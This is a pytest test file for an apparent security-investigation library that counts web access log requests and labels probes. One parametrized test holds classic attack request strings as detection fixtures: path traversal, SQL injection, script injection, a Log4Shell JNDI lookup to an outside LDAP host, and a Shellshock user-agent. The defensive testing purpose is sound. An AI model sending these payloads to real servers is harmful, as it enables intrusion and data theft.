"""Web requests: by path and status, of the client alone, and what looks like a probe."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from siemlib.investigate.pivot import address, requests, user
from tests.investigate.incident import ATTACKER, Log, case_over

if TYPE_CHECKING:
    from pathlib import Path

    from siemlib.case import Case


def _line(client: str, request: str, status: int = 404, *, who: str = "-", agent: str = "Mozilla/5.0") -> str:
    return f'{client} - {who} [04/Mar/2026:02:00:01 +0000] "{request}" {status} 12 "-" "{agent}"'


def _case(folder: Path, *lines: str) -> Case:
    return case_over(folder, Log("web", "web_access", list(enumerate(lines, 1))))


def test_requests_are_counted_by_path_and_status_and_the_query_is_left_out(tmp_path: Path) -> None:
    lines = [_line(ATTACKER, f"GET /search?q={n} HTTP/1.1", 200) for n in range(3)]
    case = _case(
        tmp_path, *lines, _line(ATTACKER, "POST /login HTTP/1.1", 302), _line(ATTACKER, "GET /search HTTP/1.1")
    )

    answer = requests(case, address(ATTACKER))

    rows = answer.frame.set_index(["method", "path", "status"])["requests"].to_dict()
    assert rows == {("GET", "/search", 200): 3, ("POST", "/login", 302): 1, ("GET", "/search", 404): 1}
    assert answer.reading == (
        "5 requests between 2026-03-04 02:00:01 and 02:00:05 UTC for 2 paths; by status: 200 3, 302 1 and 404 1. "
        "Forms sent (POST): /login 1. None looks like a probe."
    )


@pytest.mark.parametrize(
    ("request_", "agent", "kind"),
    [
        ("GET /static/..%2f..%2fetc/passwd HTTP/1.1", "-", "path traversal"),
        ("GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1", "-", "path traversal"),
        ("GET /?id=1%27%20UNION%20SELECT%20password HTTP/1.1", "-", "SQL injection"),
        ("GET /?id=1'+or+1=1 HTTP/1.1", "-", "SQL injection"),
        ("GET /?q=%3Cscript%3Ealert(1) HTTP/1.1", "-", "script in the request"),
        ("GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1", "-", "command in the request"),
        ("GET / HTTP/1.1", "() { :; }; /bin/id", "command in the request"),
        ("GET /wp-login.php HTTP/1.1", "-", "page that scanners ask for"),
        ("GET /.env HTTP/1.1", "-", "page that scanners ask for"),
        ("GET / HTTP/1.1", "Mozilla/5.00 (Nikto/2.1.5)", "scanner by its own name"),
        (r"\x16\x03\x01", "-", "no request of HTTP"),
    ],
)
def test_what_no_browser_sends_is_told_by_its_kind(tmp_path: Path, request_: str, agent: str, kind: str) -> None:
    answer = requests(_case(tmp_path, _line(ATTACKER, request_, agent=agent)), address(ATTACKER))

    assert list(answer.frame["looks like"]) == [kind]
    assert (
        f"1 request looks like a probe ({kind} 1); none of them was answered with a status below 400." in answer.reading
    )


@pytest.mark.parametrize(
    "request_",
    [
        "GET /environment HTTP/1.1",
        "GET /solr-guide/x HTTP/1.1",
        "GET /?q=rock+and+roll HTTP/1.1",
        "GET /o'neill HTTP/1.1",
    ],
)
def test_an_honest_request_is_no_probe(tmp_path: Path, request_: str) -> None:
    assert requests(_case(tmp_path, _line(ATTACKER, request_)), address(ATTACKER)).frame["looks like"].isna().all()


def test_a_probe_that_was_answered_is_called_out(tmp_path: Path) -> None:
    reading = requests(_case(tmp_path, _line(ATTACKER, "GET /.env HTTP/1.1", 200)), address(ATTACKER)).reading

    assert "1 of them with an answer of a status below 400, for /.env, the first at 2026-03-04 02:00:01 UTC." in reading


def test_a_request_of_another_that_names_the_address_is_not_its_own(tmp_path: Path) -> None:
    case = _case(
        tmp_path,
        _line("198.51.100.7", f"GET /whois/{ATTACKER} HTTP/1.1", 200),
        f"{ATTACKER} {_line('198.51.100.8', 'GET / HTTP/1.1', 200)}",
        _line(ATTACKER, "GET / HTTP/1.1", 200),
    )

    answer = requests(case, address(ATTACKER))

    assert answer.frame["requests"].sum() == 1
    assert answer.reading.endswith("Not counted: 2 requests of other addresses that name it.")


def test_the_requests_of_a_user_stand_beside_their_addresses(tmp_path: Path) -> None:
    case = _case(
        tmp_path, _line("198.51.100.7", "GET /a HTTP/1.1", 200, who="maria"), _line(ATTACKER, "GET /b HTTP/1.1")
    )

    frame = requests(case, user("maria")).frame

    assert list(frame["user"]) == ["maria"]
    assert list(frame["address"]) == ["198.51.100.7"]


def test_nothing_found_and_not_examined_are_different_answers(tmp_path: Path, quiet: Case) -> None:
    case = _case(tmp_path, _line(ATTACKER, "GET / HTTP/1.1"))
    nobody = address("198.51.100.99")

    found, unexamined = requests(case, nobody), requests(quiet, nobody)

    assert found.reading.startswith("No web request of 198.51.100.99 in web, ")
    assert unexamined.reading == "Not examined: no log group holds Web access."
    assert list(found.frame.columns) == list(unexamined.frame.columns)
